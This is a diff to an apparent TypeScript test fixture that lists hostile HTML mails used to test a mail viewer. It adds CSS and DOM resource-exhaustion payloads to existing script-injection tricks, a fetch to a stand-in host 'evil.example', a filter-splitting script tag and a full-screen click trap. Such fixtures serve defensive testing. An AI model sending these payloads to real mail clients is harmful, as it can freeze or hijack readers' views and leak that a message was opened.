@@ -3,6 +3,11 @@ export const EVIL = "http://evil.example:9";
 
 const script = `fetch('${EVIL}/ran');parent.postMessage('ran','*');document.title='ran'`;
 
+const many = (count: number, part: (index: number) => string): string =>
+  Array.from({ length: count }, (_, index) => part(index)).join("");
+const styled = (css: string): string =>
+  `<style>${css}</style>${"<p>a <b>b</b> <i>c</i></p>".repeat(2_000)}`;
+
 /** What people have really sent to get out of a mail view, one trick or family of tricks each. */
 export const hostileMails: Record<string, string> = {
   "script elements": `<script>${script}</script><script src="${EVIL}/x.js"></script><scr<script>ipt>${script}</script>`,
@@ -20,4 +25,30 @@ export const hostileMails: Record<string, string> = {
   "a click trap": `<a href="${EVIL}/trap" target="_top" style="position:fixed;inset:0;z-index:9999;display:block;width:100vw;height:100vh">everything</a>`,
   "deep nesting": `${"<div>".repeat(5_000)}deep${"</div>".repeat(5_000)}`,
   "huge html": `<p>begin</p>${'<table><tr><td style="color:red"><b>cell</b></td></tr></table>'.repeat(12_000)}`,
+  "a style sheet nested without end": `<p>c</p><style>${"a{".repeat(10_000)}</style>`,
+  "rules that multiply": styled(`${"&&&{".repeat(14)}b{color:red}`),
+  "selectors nested without end": styled(`${":not(".repeat(10_000)}{}`),
+  "values nested without end": `<p style="width:${"calc(".repeat(30_000)}1px">c</p>${styled(`p{width:${"calc(1px + ".repeat(9_000)}`)}`,
+  "variables that double": styled(
+    `:root{--a0:1px;${many(18, (n) => `--a${n + 1}:var(--a${n}) var(--a${n});`)}} p{display:grid;grid-template-columns:var(--a18)}`,
+  ),
+  "more rules than anybody writes": styled("*{color:red}".repeat(30_000)),
+  "columns in columns": `${'<div style="column-count:3;height:100px">aaa bbb'.repeat(25)}${"word ".repeat(2_000)}`,
+  "counters and quotation marks": `<style>div{counter-reset:c} div::before{content:counters(c,"${"x".repeat(999)}")} b::before{content:${"open-quote ".repeat(2_000)}}</style>${"<div>".repeat(200)}${"<b>x</b>".repeat(2_000)}${"<q>x</q>".repeat(5_000)}<ol>${"<li value=399999999>x".repeat(5_000)}</ol>`,
+  "endless animations": styled(
+    `@keyframes k{${many(3_000, (n) => `${n / 30}%{width:${n}px}`)}} *{animation:${"k 1s infinite,".repeat(900)}k 1s infinite}`,
+  ),
+  "anchors on anchors": styled(
+    "p{anchor-name:--a;position:absolute;top:anchor(--a bottom);position-anchor:--a}",
+  ),
+  "twenty thousand fonts": `<p style="font-family:${many(9_000, (n) => `f${n},`)}serif">x</p>${many(9_000, (n) => `<font face="q${n}" style="font-size:${9 + n / 99}px">x</font>`)}`,
+  "tables that claim a million cells": `<table border=1 style="border-collapse:collapse;table-layout:fixed;width:100%">${"<tr><td colspan=1000 rowspan=65534>x<td>".repeat(1_000)}</table>`,
+  "a letter of a hundred thousand accents": `<p>${`a${"\u0301".repeat(50_000)}`.repeat(4)}</p>`,
+  "an element of fifty thousand attributes": `<form ${many(50_000, (n) => `a${n} `)}><input name=attributes><input name=getAttributeNames>x</form>`,
+  "things that move": "<marquee>x</marquee>".repeat(3_000),
+  "elements in elements": "<div>".repeat(60_000),
+  "misnested formatting": `${many(4_000, (n) => `<b id=${n}>`)}${"<p>x</p>".repeat(4_000)}`,
+  "formatting in paragraphs": "<b><i><u><p>".repeat(20_000),
+  "names of the page's own functions": `<img name=body><img name=write><img name=close><fieldset form=f name=lastElementChild><form id=f><p>still shown</p></form></fieldset>`,
+  "a height that follows from the height": `<style>html,body{height:100%!important} @media (max-height:500px){p{height:600px}} div{min-height:100vh;padding:9px}</style><div><p>x</p></div>`,
 };
